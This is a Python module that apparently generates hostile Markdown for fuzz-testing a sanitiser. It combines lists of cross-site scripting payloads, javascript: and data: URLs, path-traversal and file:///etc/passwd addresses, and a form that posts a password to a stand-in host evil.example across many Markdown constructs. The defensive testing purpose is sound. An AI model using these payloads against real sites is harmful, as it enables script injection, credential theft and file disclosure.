"""Hostile Markdown, generated: pieces of known attacks wherever Markdown takes text or an address."""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator

SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/pixel.gif">',
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "<form action=https://evil.example><input type=password name=p>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<object data=javascript:alert(1)>",
    "<embed src=https://evil.example/x.swf>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea><script>alert(1)</script>",
    "</p></div></body><script>alert(1)</script>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    '<td style="width:expression(alert(1))">',
    "<x onclick=alert(1)>x</x>",
    "<a/onmouseover=alert(1)//href=x>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
)
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java&#10;script:alert(1)",
    "&#106;&#97;vascript:alert(1)",
    "javascript&colon;alert(1)",
    "\x01javascript:alert(1)",
    " javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "file:///etc/passwd",
    "//evil.example/x.png",
    "https://evil.example/x.png",
    'https://evil.example/" onmouseover="alert(1)',
    "https://evil.example/' onmouseover='alert(1)",
    "https://user:password@evil.example@good.example/",
    "http://[::1]/x.png",
    "mailto:a@example.org?body=<script>",
    "/api/v1/attachments/../../../etc/passwd",
    "/api/v1/attachments/0192aaaa-bbbb-7ccc-8ddd-eeeeffff0000/content",
    '/api/v1/attachments/0192aaaa-bbbb-7ccc-8ddd-eeeeffff0000/content" onload="alert(1)',
    "blob:https://evil.example/1",
    "feed:javascript:alert(1)",
    "x:javascript:alert(1)",
    "﻿javascript:alert(1)",
    "java\u200bscript:alert(1)",
    '#"><img src=x onerror=alert(1)>',
)
PLACES: tuple[Callable[[str, str], str], ...] = (
    lambda text, address: text,
    lambda text, address: f"[{text}]({address})",
    lambda text, address: f"[{text}](<{address}>)",
    lambda text, address: f'[{text}]({address} "{text}")',
    lambda text, address: f"![{text}]({address})",
    lambda text, address: f"![{text}](<{address}> '{text}')",
    lambda text, address: f"[![{text}]({address})]({address})",
    lambda text, address: f"[{text}][r]\n\n[r]: {address} '{text}'",
    lambda text, address: f"[r]: <{address}>\n![r]",
    lambda text, address: f"<{address}>",
    lambda text, address: f"{address} {text}",
    lambda text, address: f"`{text}` ``{address}``",
    lambda text, address: f"```{address}\n{text}\n```",
    lambda text, address: f"~~~ {text}\n{address}\n~~~",
    lambda text, address: f"    {text}\n    {address}",
    lambda text, address: f"> {text}\n> > [{address}]({address})",
    lambda text, address: f"1. {text}\n   - {address}\n     1) {text}",
    lambda text, address: f"|{text}|{address}|\n|:--|--:|\n|{text}|[x]({address})|",
    lambda text, address: f"# {text}\n{address}\n===",
    lambda text, address: f"**{text}*{address}***_{text}__",
    lambda text, address: f"~~{text}~~ [{text}]( {address}",
    lambda text, address: f"a\\{text} &amp;{address};",
    lambda text, address: f"{text}\n***\n{address}",
    lambda text, address: f"[{'[' * 30}{text}{']' * 30}]({address})",
    lambda text, address: f"{'>' * 60} {text}",
    lambda text, address: f"{'*' * 40}{text}{'_' * 40}{address}",
)
NOISE = "<>\"'`&;=/\\()[]{}!*_~#|\n\t :\x0b\x0c\u2028\u202e\u200bжé😀javscriptonlhrf"


def hostile_texts(count: int, *, seed: int = 1) -> Iterator[str]:
    """So many, the same for the same seed: first each attack in each place, then mixtures, then noise in
    them."""
    made = 0
    for number, place in enumerate(PLACES):
        for script in SCRIPTS:
            if made == count:
                return
            yield place(script, ADDRESSES[(made + number) % len(ADDRESSES)])
            made += 1
    letters = random.Random(seed)
    while made < count:
        parts = [
            letters.choice(PLACES)(letters.choice(SCRIPTS), letters.choice(ADDRESSES))
            for _ in range(letters.randint(1, 4))
        ]
        text = letters.choice(("", " ", "\n", "\n\n")).join(parts)
        yield _noisy(text, letters) if letters.random() < 0.6 else text
        made += 1


def _noisy(text: str, letters: random.Random) -> str:
    for _ in range(letters.randint(1, 12)):
        at = letters.randrange(len(text) + 1)
        match letters.randrange(4):
            case 0:
                text = text[:at] + letters.choice(NOISE) + text[at:]
            case 1:
                text = text[:at] + text[at + letters.randint(1, 3) :]
            case 2:
                text = text[:at] + text[at:].swapcase()
            case _:
                end = at + letters.randint(1, 20)
                text = text[:end] + text[at:end] + text[end:]
    return text
